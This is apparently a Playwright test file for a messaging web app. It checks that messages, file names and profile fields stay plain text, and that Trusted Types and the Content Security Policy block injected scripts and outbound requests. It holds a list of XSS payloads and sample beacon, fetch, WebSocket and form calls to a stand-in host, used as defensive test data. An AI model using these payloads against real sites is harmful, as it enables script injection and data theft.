"""Nothing that people write, and nothing that slips into the page, ever runs there; and the tests would notice."""

from __future__ import annotations

import asyncio
import secrets
from urllib.parse import quote

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page, expect

from tests.support.page import Stage
from tests.support.pictures import picture

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

HTML = {
    "<img src=x onerror=console.error('img')>": "img",
    "\"><audio src=x onerror=console.error('audio')>": "audio",
    "<details open ontoggle=console.error('details')>": "details",
    "<iframe srcdoc=\"<script>console.error('iframe')</script>\"></iframe>": "iframe",
    "</textarea></title><img src=x onerror=console.error('closed')>": "closed",
    "<video src=x onerror=console.error('video')>": "video",
}
"""Each of them runs where a text is taken for HTML, and says which one it is in the console, where it is a fault."""
FIRST, SECOND, *_ = HTML
TEXTS = (
    *HTML,
    "<script>console.error('script')</script>",
    "<svg onload=console.error('svg')>",
    "javascript:console.error('address')",
    "[a link](javascript:console.error('link'))",
    "https://example.org/\"onmouseover=\"console.error('quote')",
    "https://javascript:console.error('user')@example.org/",
    "data:text/html,<script>console.error('data')</script>",
    "' onmouseover='console.error(1)' x='",
    "${console.error('template')} {{console.error('braces')}} #{console.error('ruby')} <%= console.error('erb') %>",
    "{{constructor.constructor('console.error(2)')()}}",
    "<base href=//elsewhere.example/><link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<style>*{background:url(//elsewhere.example/x)}</style>",
    "&lt;script&gt;console.error('entity')&lt;/script&gt; <!-- ]]> \u202e <script>console.error(3)",
)
SLIPPED_IN = """
() => [...document.querySelectorAll("#app *")].flatMap(element => [
  ...(element.matches("script, iframe, object, embed, base, meta, link, style, form[action]")
    ? [element.outerHTML] : []),
  ...[...element.attributes]
    .filter(({ name, value }) =>
      name.startsWith("on") || /^\\s*(javascript|data|vbscript):/i.test(value))
    .map(() => element.outerHTML),
  ...(element.matches("a[href]") && !["http:", "https:"].includes(element.protocol)
    ? [element.outerHTML] : []),
])
"""
"""What no text may bring into the page."""
SPEAK_NONSENSE = """
() => new BroadcastChannel("paperplane-live").postMessage({up: {type: "nonsense"}})
"""
REFUSED = (
    "() => { document.createElement('script').textContent = 'ran = 1'; }",
    "() => { document.createElement('script').src = '/web/boot.js'; }",
    "() => { document.body.innerHTML = '<b>bold</b>'; }",
    "() => { document.body.setAttribute('onclick', 'ran = 1'); }",
    "() => { document.write('<b>bold</b>'); }",
    "() => { document.createElement('iframe').srcdoc = '<b>bold</b>'; }",
    "() => { setTimeout('ran = 1'); }",
    "() => { new SharedWorker('/web/live/worker.js'); }",
)
"""What a script that has slipped in would do next. Each throws."""
PREVENTED = (
    """() => {
      const link = Object.assign(document.createElement("a"), {href: "javascript:ran=1"});
      document.body.append(link);
      link.click();
    }""",
    "() => document.body.setAttribute('style', 'color: red')",
    "() => { new Image().src = 'http://elsewhere.example/x.png'; }",
    "() => { fetch('http://elsewhere.example/').catch(() => {}); }",
    "() => { navigator.sendBeacon('http://elsewhere.example/', 'x'); }",
    "() => { try { new WebSocket('ws://elsewhere.example/'); } catch {} }",
    """() => {
      const form = document.createElement("form");
      Object.assign(form, {action: "http://elsewhere.example/", method: "post"});
      document.body.append(form);
      form.submit();
    }""",
)
"""The same, where a violation is all that tells of it."""


async def no_script_in(page: Page) -> None:
    """Hold that the screen is drawn, and that no text has brought anything but text into it."""
    await expect(page.locator("#app [aria-busy]")).to_have_count(0)
    assert await page.evaluate(SLIPPED_IN) == []


@pytest.mark.prove
async def test_messages_and_file_names_stay_text(stage: Stage) -> None:
    ann, bea = await stage.friends()
    # A slash would make it a path, which no name may be.
    names = [text.replace("/", "") for text in HTML]
    for text in TEXTS:
        await stage.say(bea.person_id, ann.person_id, text)
    for name in names:
        shown = await stage.upload(bea.person_id, f"{name}.png", picture())
        other = await stage.upload(bea.person_id, f"{name}.txt", b"a plain text")
        await stage.say(bea.person_id, ann.person_id, "", shown, other)

    await expect(ann.row(bea)).to_contain_text(f"{len(TEXTS) + len(HTML)} unread messages")
    await ann.talk_to(bea)
    await expect(ann.messages(bea)).to_contain_text(TEXTS)
    for name in names:
        await expect(
            ann.messages(bea).get_by_role("button", name=f"Open picture {name}.png")
        ).to_be_visible()
        await expect(ann.messages(bea).get_by_text(f"{name}.txt")).to_be_visible()
    await ann.composer(bea).fill("\n".join(TEXTS))
    await no_script_in(ann.page)
    await ann.button("Send").click()
    await expect(ann.messages(bea).last).to_contain_text("Sent")
    await no_script_in(ann.page)


async def test_names_headlines_notes_and_ids_stay_text_on_every_screen(stage: Stage) -> None:
    note = " ".join(HTML)[:300]
    parts = ("friend", "gone", "asks", "asked", "ignored", "blocked")
    ids = {
        part: await stage.newcomer(
            text,
            f'{part}{secrets.token_hex(4)}"><img/src=x/onerror=console.error(1)>',
            headline=text,
        )
        for part, text in zip(parts, HTML, strict=True)
    }
    me = await stage.newcomer(FIRST, f"{secrets.token_hex(4)}'><svg/onload=console.error(2)>")
    for part in ("friend", "gone"):
        await stage.make_friends(ids[part], me)
        await stage.say(ids[part], me, SECOND)
    await stage.client(me).call("RemoveFriend", personId=ids["gone"])
    await stage.client(me).call("BlockPerson", personId=ids["blocked"])
    await stage.ask(ids["asks"], me, note)
    await stage.ask(me, ids["asked"], note)
    ignored = await stage.ask(ids["ignored"], me, note)
    await stage.client(me).call("IgnoreFriendRequest", requestId=ignored)
    page = (await stage.sign_in(me, FIRST)).page

    for place in ("home", "home/requests", "home/blocked", "network", "you", "nowhere"):
        await page.goto(f"{stage.url}/#/{place}")
        await no_script_in(page)
    for part, text in zip(parts, HTML, strict=True):
        for place in ("people", "messages"):
            await page.goto(f"{stage.url}/#/{place}/{quote(ids[part], safe='')}")
            await expect(page.get_by_role("heading", name=text, exact=True)).to_be_visible()
            await no_script_in(page)
    await page.goto(f"{stage.url}/#/people/{quote(ids['friend'], safe='')}")
    await page.get_by_role("button", name="Block").click()
    await expect(page.get_by_role("dialog")).to_contain_text(FIRST)
    await no_script_in(page)
    await page.keyboard.press("Escape")
    await page.goto(f"{stage.url}/#/network")
    await page.get_by_role("searchbox").fill(f"nobody {SECOND}")
    await expect(page.get_by_text(f"Nobody found for “nobody {SECOND}”").first).to_be_visible()
    await no_script_in(page)


@pytest.mark.prove
async def test_the_tests_would_notice_a_script(stage: Stage) -> None:
    page = await stage.tab(bypass_csp=True)
    await page.goto(stage.url)
    await page.evaluate("() => console.error('directly')")
    await stage.faults.notice("console: directly")
    stage.faults.forgive("(/x)")
    for text, what in HTML.items():
        await page.evaluate(
            "text => document.querySelector('#app').insertAdjacentHTML('beforeend', text)", text
        )
        await stage.faults.notice(f"console: {what}")
        assert await page.evaluate(SLIPPED_IN) != []
        await page.evaluate("() => document.querySelector('#app').replaceChildren()")


@pytest.mark.prove
async def test_the_tests_would_notice_a_fault(stage: Stage) -> None:
    ann, bea = await asyncio.gather(stage.enter("Ann", bypass_csp=True), stage.enter("Bea"))
    await ann.page.evaluate("() => { setTimeout(() => { throw new Error('a fault'); }); }")
    await stage.faults.notice("page error: a fault")
    await ann.page.evaluate("() => fetch('http://elsewhere.example/').catch(() => {})")
    await stage.faults.notice("request to http://elsewhere.example/")
    await stage.faults.notice("net::ERR_")
    # Nobody hears nonsense before the worker runs, of whom she learns this.
    await stage.befriend(ann, bea)
    await expect(ann.row(bea)).to_be_visible()
    await ann.page.evaluate(SPEAK_NONSENSE)
    await stage.faults.notice("worker console: ")


async def test_what_could_bring_in_a_script_is_refused(stage: Stage) -> None:
    page = await stage.tab()
    await page.goto(stage.url)

    for script in REFUSED:
        with pytest.raises(PlaywrightError, match="Trusted"):
            await page.evaluate(script)
        await stage.faults.notice("Trusted")
    assert await page.evaluate("() => typeof ran") == "undefined"


async def test_what_could_get_out_is_prevented(stage: Stage) -> None:
    page = await stage.tab()
    await page.goto(stage.url)
    stage.faults.forgive("request to http://elsewhere.example")

    for script in PREVENTED:
        await page.evaluate(script)
        await stage.faults.notice("Content Security Policy")
    assert await page.evaluate("() => typeof ran") == "undefined"
    assert page.url == f"{stage.url}/"
    # One refusal may be told twice.
    stage.faults.forgive("Content Security Policy")
